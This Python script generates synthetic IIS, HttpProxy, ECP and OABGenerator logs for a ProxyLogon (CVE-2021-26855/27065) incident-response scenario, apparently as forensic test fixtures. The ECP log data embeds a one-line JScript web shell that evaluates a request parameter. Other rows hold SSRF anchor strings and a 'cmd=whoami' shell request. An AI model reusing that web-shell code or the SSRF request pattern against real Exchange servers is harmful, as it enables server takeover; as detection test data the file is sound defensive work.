#!/usr/bin/env python3
"""proxylogon_logs.py OUTDIR

Writes the server logs of the ProxyLogon scenario image (scripts/make-proxylogon-image.sh):
IIS W3C extended logs and Exchange's HttpProxy, ECP server and OABGenerator logs, as an
Exchange 2016 CU19 server with IIS 10 writes them. Deterministic: the same bytes every run.

Format sources (facts only; every line here is ours):
  * W3C extended log format, W3C Working Draft WD-logfile-960323, and IIS's use of it
    (Microsoft Learn, "W3C Logging" / "Configure logging in IIS"): `#Software`, `#Version`,
    `#Date`, `#Fields` directives; one space-separated row per request; UTC times; a space
    in a value (the user agent) written as '+'; '-' for an empty value. IIS writes a new
    directive block (with a new `#Fields`) when logging restarts or the field set changes.
  * Exchange 2013+ logs (HttpProxy, ECP, OABGenerator): CSV with a `#Fields:` header line
    and other `#` directives (`#Software`, `#Version`, `#Log-type`, `#Date`), quoted values
    with doubled quotes; the HttpProxy field names and the patterns Microsoft's
    Test-ProxyLogon.ps1 (CSS-Exchange, Security/src) looks for: an empty AuthenticatedUser
    with an AnchorMailbox like `ServerInfo~*/*` (CVE-2021-26855), `Set-.+VirtualDirectory`
    in ECP server logs (CVE-2021-27065), "Download failed and temporary file" in
    OABGenerator logs (CVE-2021-26858).

The story (all UTC), which the scenario tests assert:
  2021-03-01  ordinary OWA traffic.
  2021-03-02  02:51 attacker 203.0.113.7: SSRF through /ecp/y.js (HttpProxy rows with a
              ServerInfo~ anchor and no user), proxyLogon.ecp, the OAB virtual directory set
              with a script in ExternalUrl (ECP server log), reset -> abc.aspx is written at
              02:51:33 (the OAB "Download failed" line); the shell is requested from 02:52:02;
              at 08:00:00 a request to it, 5 s before lsass.dmp is born.
  2021-03-03  no IIS log: the day's log is missing (the gap the coverage must name).
  2021-03-04  the shell used again at 11:00; the server is patched at 12:00.
  2021-03-05  198.51.100.23 posts to abc.aspx at 10:00:00 and outlookfix.aspx is born at
              10:00:03 (dropped through the first shell, after the patch); requested at 10:05
              (URL-encoded, other case) and 10:06. IIS restarts logging at 09:00 with one more
              field (cs-host): a `#Fields` change mid-file.
"""
import os
import sys

IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
IIS_FIELDS_WITH_HOST = IIS_FIELDS.replace("cs(Referer)", "cs(Referer) cs-host")
SERVER_IP = "10.0.0.10"
ATTACKER = "203.0.113.7"
ATTACKER2 = "198.51.100.23"
USER_IP = "10.1.1.20"
BROWSER = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)"
SHELL_AGENT = "antSword/v2.1"

HTTPPROXY_FIELDS = [
    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion",
    "ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType",
    "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent",
    "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus", "ErrorCode", "Method",
    "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
    "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes",
    "ResponseBytes", "TargetOutstandingRequests", "AuthModulePerfContext",
    "HttpPipelineLatency", "CalculateTargetBackEndLatency", "GlsLatencyBreakup",
    "TotalGlsLatency", "AccountForestLatencyBreakup", "TotalAccountForestLatency",
    "ResourceForestLatencyBreakup", "TotalResourceForestLatency", "ADLatency",
    "SharedCacheLatencyBreakup", "TotalSharedCacheLatency", "ActivityContextLifeTime",
    "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency",
    "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
    "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency",
    "HandlerCompletionLatency", "RequestHandlerLatency", "HandlerToModuleSwitchingLatency",
    "ProxyTime", "CoreLatency", "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime",
    "UrlQuery", "BackEndGenericInfo", "GenericInfo", "GenericErrors", "EdgeTraceId",
    "DatabaseGuid", "UserADObjectGuid", "PartitionEndpointLookupLatency", "RoutingStatus",
]


def iis_row(fields, date, time, method, stem, query, ip, agent, status, host=None):
    values = [date, time, SERVER_IP, method, stem, query or "-", "443", "-", ip, agent, "-"]
    if "cs-host" in fields:
        values.append(host or "mail.contoso.com")
    values += [str(status), "0", "0", "15"]
    return " ".join(values)


def iis_header(date_time, fields):
    return ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
            "#Date: " + date_time, "#Fields: " + fields]


def iis_logs():
    logs = {}
    f = IIS_FIELDS
    logs["u_ex210301.log"] = iis_header("2021-03-01 00:00:04", f) + [
        iis_row(f, "2021-03-01", "00:00:04", "GET", "/owa/auth/logon.aspx", "replaceCurrent=1", USER_IP, BROWSER, 200),
        iis_row(f, "2021-03-01", "08:15:31", "POST", "/owa/auth.owa", None, USER_IP, BROWSER, 302),
        iis_row(f, "2021-03-01", "08:15:32", "GET", "/owa/", None, USER_IP, BROWSER, 200),
        iis_row(f, "2021-03-01", "17:40:09", "GET", "/ecp/", None, USER_IP, BROWSER, 200),
    ]
    logs["u_ex210302.log"] = iis_header("2021-03-02 00:00:12", f) + [
        iis_row(f, "2021-03-02", "00:00:12", "GET", "/owa/auth/logon.aspx", "replaceCurrent=1", USER_IP, BROWSER, 200),
        iis_row(f, "2021-03-02", "02:51:10", "POST", "/ecp/y.js", None, ATTACKER, "ExchangeServicesClient/0.0.0.0", 200),
        iis_row(f, "2021-03-02", "02:51:14", "POST", "/ecp/proxyLogon.ecp", None, ATTACKER, "python-requests/2.25.1", 241),
        iis_row(f, "2021-03-02", "02:51:20", "POST", "/ecp/DDI/DDIService.svc/GetObject",
                "schema=OABVirtualDirectory&msExchEcpCanary=Zm9vYmFy", ATTACKER, "python-requests/2.25.1", 200),
        iis_row(f, "2021-03-02", "02:51:25", "POST", "/ecp/DDI/DDIService.svc/SetObject",
                "schema=OABVirtualDirectory&msExchEcpCanary=Zm9vYmFy", ATTACKER, "python-requests/2.25.1", 200),
        iis_row(f, "2021-03-02", "02:51:31", "POST", "/ecp/DDI/DDIService.svc/SetObject",
                "schema=ResetOABVirtualDirectory&msExchEcpCanary=Zm9vYmFy", ATTACKER, "python-requests/2.25.1", 200),
        iis_row(f, "2021-03-02", "02:52:02", "POST", "/aspnet_client/abc.aspx", None, ATTACKER, SHELL_AGENT, 200),
        iis_row(f, "2021-03-02", "02:52:40", "POST", "/aspnet_client/abc.aspx", None, ATTACKER, SHELL_AGENT, 200),
        iis_row(f, "2021-03-02", "08:00:00", "POST", "/aspnet_client/abc.aspx", None, ATTACKER, SHELL_AGENT, 200),
        iis_row(f, "2021-03-02", "09:12:44", "GET", "/owa/", None, USER_IP, BROWSER, 200),
    ]
    # 2021-03-03: no log (deleted or never written): the gap.
    logs["u_ex210304.log"] = iis_header("2021-03-04 00:01:00", f) + [
        iis_row(f, "2021-03-04", "00:01:00", "GET", "/owa/", None, USER_IP, BROWSER, 200),
        iis_row(f, "2021-03-04", "11:00:00", "POST", "/aspnet_client/abc.aspx", None, ATTACKER, SHELL_AGENT, 200),
        iis_row(f, "2021-03-04", "13:30:00", "GET", "/owa/auth/logon.aspx", "replaceCurrent=1", USER_IP, BROWSER, 200),
    ]
    g = IIS_FIELDS_WITH_HOST
    logs["u_ex210305.log"] = iis_header("2021-03-05 00:02:00", f) + [
        iis_row(f, "2021-03-05", "00:02:00", "GET", "/owa/", None, USER_IP, BROWSER, 200),
    ] + iis_header("2021-03-05 09:00:00", g) + [
        iis_row(g, "2021-03-05", "09:30:00", "GET", "/owa/", None, USER_IP, BROWSER, 200),
        iis_row(g, "2021-03-05", "10:00:00", "POST", "/aspnet_client/abc.aspx", None, ATTACKER2, SHELL_AGENT, 200),
        iis_row(g, "2021-03-05", "10:05:00", "GET", "/OWA/auth/OutlookFix%2Easpx", None, ATTACKER2, SHELL_AGENT, 200),
        iis_row(g, "2021-03-05", "10:06:00", "POST", "/owa/auth/outlookfix.aspx", "cmd=whoami", ATTACKER2, SHELL_AGENT, 200),
        iis_row(g, "2021-03-05", "16:45:10", "GET", "/ecp/", None, USER_IP, BROWSER, 200),
    ]
    return logs


def csv_value(v):
    if any(c in v for c in ',"\r\n'):
        return '"' + v.replace('"', '""') + '"'
    return v


def exchange_header(log_type, date, fields):
    return ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002",
            "#Log-type: " + log_type, "#Date: " + date, "#Fields: " + ",".join(fields)]


def httpproxy_row(when, request_id, protocol, stem, user, anchor, agent, ip, status, method,
                  query="", hint=""):
    row = dict.fromkeys(HTTPPROXY_FIELDS, "")
    row.update({
        "DateTime": when, "RequestId": request_id, "MajorVersion": "15", "MinorVersion": "1",
        "BuildVersion": "2176", "RevisionVersion": "2", "Protocol": protocol,
        "UrlHost": "mail.contoso.com", "UrlStem": stem,
        "AuthenticationType": "Negotiate" if user else "", "IsAuthenticated": "True" if user else "False",
        "AuthenticatedUser": user, "AnchorMailbox": anchor, "UserAgent": agent,
        "ClientIpAddress": ip, "ServerHostName": "EXCH01", "HttpStatus": str(status),
        "BackEndStatus": str(status), "Method": method, "ProxyAction": "Proxy",
        "TargetServer": "exch01.contoso.local", "RoutingHint": hint, "UrlQuery": query,
        "GenericInfo": "", "TotalRequestTime": "31",
    })
    return ",".join(csv_value(row[k]) for k in HTTPPROXY_FIELDS)


def httpproxy_logs():
    logs = {}
    logs["Owa/HttpProxy_2021030108-1.LOG"] = exchange_header(
        "HttpProxy Logs", "2021-03-01T08:15:31.000Z", HTTPPROXY_FIELDS) + [
        httpproxy_row("2021-03-01T08:15:32.104Z", "5b6c0e4e-0001", "Owa", "/owa/", "CONTOSO\\alice",
                      "SMTP:alice@contoso.com", BROWSER.replace("+", " "), USER_IP, 200, "GET"),
    ]
    anchor = "ServerInfo~a]@exch01.contoso.local:444/autodiscover/autodiscover.xml?#"
    logs["Ecp/HttpProxy_2021030202-1.LOG"] = exchange_header(
        "HttpProxy Logs", "2021-03-02T02:51:10.000Z", HTTPPROXY_FIELDS) + [
        httpproxy_row("2021-03-02T02:51:10.317Z", "a1f2c3d4-0001", "Ecp", "/ecp/y.js", "", anchor,
                      "ExchangeServicesClient/0.0.0.0", ATTACKER, 200, "POST",
                      hint="X-BEResource-Cookie"),
        httpproxy_row("2021-03-02T02:51:14.552Z", "a1f2c3d4-0002", "Ecp", "/ecp/proxyLogon.ecp", "",
                      "ServerInfo~a]@exch01.contoso.local:444/ecp/proxyLogon.ecp?#",
                      "python-requests/2.25.1", ATTACKER, 241, "POST", hint="X-BEResource-Cookie"),
        httpproxy_row("2021-03-02T09:12:44.020Z", "a1f2c3d4-0003", "Ecp", "/ecp/", "CONTOSO\\alice",
                      "SMTP:alice@contoso.com", BROWSER.replace("+", " "), USER_IP, 200, "GET"),
    ]
    return logs


def ecp_server_logs():
    fields = ["DateTime", "ServerName", "EventId", "EventData"]
    cmd = ("S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
           "runat=\"server\">function Page_Load(){eval(Request[\"code\"],\"unsafe\");}</script>'"
           ".Identity='EXCH01\\OAB (Default Web Site)'")
    return {"ECPServer2021030202-1.LOG": exchange_header(
        "ECP Server Logs", "2021-03-02T02:51:25.000Z", fields) + [
        ",".join(csv_value(v) for v in ["2021-03-02T02:51:25.640Z", "EXCH01", "ECP.Request",
                                        "S:ActivityID=7e1b;S:USID=" + ATTACKER + ";" + cmd]),
        ",".join(csv_value(v) for v in ["2021-03-02T02:51:31.118Z", "EXCH01", "ECP.Request",
                                        "S:CMD=Reset-OabVirtualDirectory.Identity='EXCH01\\OAB (Default Web Site)'"]),
    ]}


def oab_generator_logs():
    fields = ["DateTime", "ProcessId", "ThreadId", "Severity", "Message"]
    message = ("Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\abc.aspx' "
               "needs to be removed")
    return {"OABGenerator_2021030202-1.LOG": exchange_header(
        "OABGenerator Log", "2021-03-02T02:51:33.000Z", fields) + [
        ",".join(csv_value(v) for v in ["2021-03-02T02:51:33.904Z", "4120", "17", "Error", message]),
    ]}


def write(root, rel, lines):
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as out:
        out.write(("\r\n".join(lines) + "\r\n").encode("ascii"))


def main():
    root = sys.argv[1]
    for name, lines in iis_logs().items():
        write(root, "iis/" + name, lines)
    for name, lines in httpproxy_logs().items():
        write(root, "httpproxy/" + name, lines)
    for name, lines in ecp_server_logs().items():
        write(root, "ecp/" + name, lines)
    for name, lines in oab_generator_logs().items():
        write(root, "oab/" + name, lines)


if __name__ == "__main__":
    main()
